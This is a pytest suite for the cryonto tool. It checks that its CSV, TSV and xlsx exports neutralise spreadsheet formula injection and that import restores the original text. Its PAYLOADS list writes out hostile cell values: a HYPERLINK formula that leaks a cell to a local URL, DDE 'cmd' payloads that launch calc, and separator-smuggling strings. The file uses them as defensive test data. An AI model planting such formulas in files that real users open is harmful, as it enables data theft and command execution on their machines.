"""Issue 7, item 7: no CSV/TSV/xlsx cell cryonto writes can run as a spreadsheet formula.

OWASP ("CSV Injection"): a cell must not begin with =, +, -, @, tab or carriage return; every
cell is quoted so a separator inside it cannot start a new one. cryonto prefixes such a cell
with a single quote (plain numbers such as -2 excepted) and `cryonto import csv` takes the
quote off again; xlsx strings are stored as strings with Excel's quote-prefix style.
"""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from support.budget import examples

from cryonto.cli import main
from cryonto.coded import from_store
from cryonto.importing import import_to_turtle
from cryonto.rdf import GraphStore
from cryonto.writers.cells import (
    DANGEROUS,
    csv_text,
    is_plain_number,
    neutralise,
    unneutralise,
)

SALT = "a salt of at least sixteen characters"
PAYLOADS = ['=HYPERLINK("http://127.0.0.1:9/leak?"&A2,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+2\";=1+2",
            "=1+2'\" ;,=1+2"]


def run(*args: object):
    return CliRunner().invoke(main, [str(a) for a in args])


def safe(cell: str) -> bool:
    """What a spreadsheet would not take for a formula."""
    return cell[:1] not in DANGEROUS or is_plain_number(cell)


# -- the rule ------------------------------------------------------------------------------


@pytest.mark.parametrize("value,written", [
    ('=HYPERLINK("x")', "'=HYPERLINK(\"x\")"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("@SUM(1)", "'@SUM(1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("-", "'-"),
    ("+", "'+"),
    ("-2+3", "'-2+3"),
    ("-inf", "'-inf"),
    ("'=x", "''=x"),  # so that taking one quote off gives back exactly this text
    ("''", "'''"),
    # plain numbers stay numbers
    ("-2", "-2"), ("-2.5", "-2.5"), ("+3", "+3"), ("-.5", "-.5"), ("1e5", "1e5"),
    ("-1E-3", "-1E-3"),
    # harmless text is not touched
    ("'Tis", "'Tis"), ("A1.1", "A1.1"), ("a=b", "a=b"), ("", ""), (" =1", " =1"),
])
def test_neutralise(value, written):
    assert neutralise(value) == written
    assert unneutralise(written) == value


@given(st.text())
@settings(max_examples=examples(2000))
def test_neutralised_text_is_safe_and_reversible(text):
    written = neutralise(text)
    assert safe(written)
    assert unneutralise(written) == text
    assert written == text or written == "'" + text  # at most one quote, at the front


@given(st.lists(st.lists(st.text(), min_size=1, max_size=4), min_size=1, max_size=5),
       st.sampled_from([",", "\t"]))
@settings(max_examples=examples(500))
def test_csv_and_tsv_cells_are_safe_and_come_back(rows, delimiter):
    width = max(len(r) for r in rows)
    rows = [r + [""] * (width - len(r)) for r in rows]
    text = csv_text(None, rows, delimiter)
    parsed = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
    assert len(parsed) == len(rows)
    for written, original in zip(parsed, rows, strict=True):
        assert all(safe(cell) for cell in written)
        assert [unneutralise(cell) for cell in written] == original


SEPARATOR_TEXT = st.one_of(
    st.text(alphabet=st.sampled_from(list("ab1-=+@'\";,\t\r\n ")), max_size=8),
    st.from_regex(r"[+-][0-9]{1,3}(\.[0-9])?", fullmatch=True),  # signed plain numbers
    st.sampled_from(["WEBSERVICE(1)", "A1"]))


@given(st.lists(SEPARATOR_TEXT, min_size=1, max_size=4), st.sampled_from([",", "\t"]))
@example(["-1", "WEBSERVICE(1)"], ",")
@settings(max_examples=examples(1000))
def test_a_foreign_separator_inside_a_cell_cannot_start_a_formula_cell(row, delimiter):
    """OWASP: separators and quotes inside a cell must not let a new cell begin there.
    Either the row has none (then any separator finds the same cells) or every cell of it
    is quoted."""
    text = csv_text(None, [row], delimiter)
    if any(ch in cell for cell in row for ch in ",;\t\"'\r\n"):
        assert all_cells_quoted(text, delimiter)
    elif not all_cells_quoted(text, delimiter):
        for other in (",", ";", "\t"):
            cells = next(csv.reader(io.StringIO(text, newline=""), delimiter=other))
            # read with another separator: a cell may run over several of this file's
            # cells; it must not start like a formula (this file's own tabs aside)
            assert all(safe(cell.lstrip(delimiter)) for cell in cells)
            # nor like a signed number running on into the next cell ("-1,WEBSERVICE(…)")
            assert all(cell.lstrip(delimiter)[:1] not in ("+", "-") or len(row) == 1
                       for cell in cells)


def all_cells_quoted(text: str, delimiter: str) -> bool:
    """Outside quotes, every cell (after a separator or a record end) opens with a quote."""
    quoted, expect_open = False, True
    for char in text:
        if expect_open and char != '"':
            return False
        expect_open = False
        if char == '"':
            quoted = not quoted  # a doubled quote toggles twice
        elif not quoted and char in (delimiter, "\n"):
            expect_open = True
    return not quoted


# -- export csv (plain and redacted) and the round trip --------------------------------------


def hostile_csv(folder: Path) -> Path:
    """Segment text, memo, code, coder and participant fields that are formulas."""
    rows = [["document", "code", "start", "end", "coder", "text", "segment_id", "participant",
             "memo"]]
    for number, payload in enumerate(PAYLOADS):
        rows.append(["Doc " + payload, payload.replace(";", ","), "0", "9", payload, payload,
                     f"s{number}", "P01", payload])
    rows.append(["T1", "A1.1", "0", "2", "C1", "-2", "s-num", "P01", "+3"])
    path = folder / "hostile.csv"
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def read_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


@pytest.mark.parametrize("redact", [False, True])
def test_export_csv_neutralises_every_cell(tmp_path, redact):
    study = tmp_path / "study.ttl"
    import_to_turtle("csv", hostile_csv(tmp_path), study)
    out = tmp_path / "out.csv"
    extra = ["--redact", "--salt", SALT] if redact else []
    result = run("export", "csv", study, "-o", out, *extra)
    assert result.exit_code == 0, result.output
    cells = [cell for row in read_cells(out) for cell in row]
    assert all(safe(cell) for cell in cells), [c for c in cells if not safe(c)]
    # the payloads are there, neutralised (code and coder names survive redaction)
    assert "'@SUM(1)" in cells and "'+cmd|' /C calc'!A0" in cells
    if not redact:
        assert "-2" in cells and "+3" in cells  # numbers stay numbers
        assert "'" + PAYLOADS[0] in cells


def test_export_csv_round_trip_gives_the_payloads_back(tmp_path):
    source = hostile_csv(tmp_path)
    study = tmp_path / "study.ttl"
    import_to_turtle("csv", source, study)
    out = tmp_path / "out.csv"
    assert run("export", "csv", study, "-o", out).exit_code == 0
    again = tmp_path / "again.ttl"
    import_to_turtle("csv", out, again, study="again")

    def texts(path: Path) -> set[tuple]:
        (ds,) = from_store(GraphStore.with_ontology([path]))
        return {(s.text, s.memo, ds.coders[s.coder].name if s.coder in ds.coders else s.coder)
                for s in ds.segments}

    assert texts(again) == texts(study)
    # segment text and memo exactly (the importer strips spaces around coder names)
    assert {(p, p) for p in PAYLOADS} <= {(text, memo) for text, memo, _ in texts(again)}


# -- codebook csv and xlsx -------------------------------------------------------------------


def hostile_entries():
    from cryonto.category import load_category_system
    from cryonto.writers.codebook import codebook_entries

    entries = codebook_entries(load_category_system(), "en")
    hostile = []
    for entry, payload in zip(entries, PAYLOADS * 20, strict=False):
        hostile.append(dataclasses.replace(entry, notation=None, label=payload,
                                           definition=payload))
    return hostile


def test_codebook_csv_is_neutralised(tmp_path):
    from cryonto.writers.codebook import write_codebook

    out = tmp_path / "codebook.csv"
    write_codebook(hostile_entries(), out, "csv", "en")
    cells = [cell for row in read_cells(out)[1:] for cell in row]
    assert all(safe(cell) for cell in cells), [c for c in cells if not safe(c)]
    assert "'" + PAYLOADS[0] in cells


def test_codebook_xlsx_stores_strings_never_formulas(tmp_path):
    from cryonto.writers.codebook import write_codebook

    entries = hostile_entries()
    out = tmp_path / "codebook.xlsx"
    write_codebook(entries, out, "xlsx", "en")
    book = load_workbook(out)
    codes = list(book["Codebook"].iter_rows(min_row=2))  # MAXQDA's Code/Memo table
    # the code path ends in the name, unchanged (parent names before it, joined by "\\")
    assert [row[0].value.rsplit("\\", 1)[-1] for row in codes] == [e.label for e in entries]
    assert all(row[0].data_type == "s" and row[0].quotePrefix for row in codes)
    ws = book["Categories"]
    rows = list(ws.iter_rows(min_row=2))
    assert len(rows) == len(entries)
    for row, entry in zip(rows, entries, strict=True):
        assert all(cell.data_type != "f" for cell in row)
        name, definition = row[1], row[3]
        assert (name.value, definition.value) == (entry.label, entry.definition)  # unchanged
        assert name.data_type == "s" and name.quotePrefix  # shown as text, also when edited
    with zipfile.ZipFile(out) as archive:
        sheets = [archive.read(f"xl/worksheets/sheet{n}.xml") for n in (1, 2)]
    assert all(b"<f>" not in sheet and b"<f " not in sheet for sheet in sheets)


def test_the_real_codebook_xlsx_has_no_formula(tmp_path):
    out = tmp_path / "codebook.xlsx"
    assert run("export", "codebook", "-o", out).exit_code == 0
    ws = load_workbook(out).active
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)


# -- CLI tables: query --format csv/tsv ------------------------------------------------------


@pytest.mark.parametrize("fmt,delimiter", [("csv", ","), ("tsv", "\t")])
def test_query_csv_output_is_neutralised(tmp_path, fmt, delimiter):
    data = tmp_path / "data.ttl"
    data.write_text("".join(
        f'<http://example.org/s{i}> <http://example.org/p> "{p.translate(_ESC)}" .\n'
        for i, p in enumerate(PAYLOADS)) + '<http://example.org/n> <http://example.org/p> "-2" .\n',
        encoding="utf-8")
    query = tmp_path / "q.rq"
    query.write_text("SELECT ?o WHERE { ?s <http://example.org/p> ?o }", encoding="utf-8")
    result = run("query", query, "--data", data, "--format", fmt)
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.output, newline=""),
                                         delimiter=delimiter) for cell in row]
    assert all(safe(cell) for cell in cells), [c for c in cells if not safe(c)]
    assert sorted(unneutralise(c) for c in cells[1:]) == sorted([*PAYLOADS, "-2"])


_ESC = str.maketrans({"\\": "\\\\", '"': '\\"', "\t": "\\t", "\r": "\\r"})
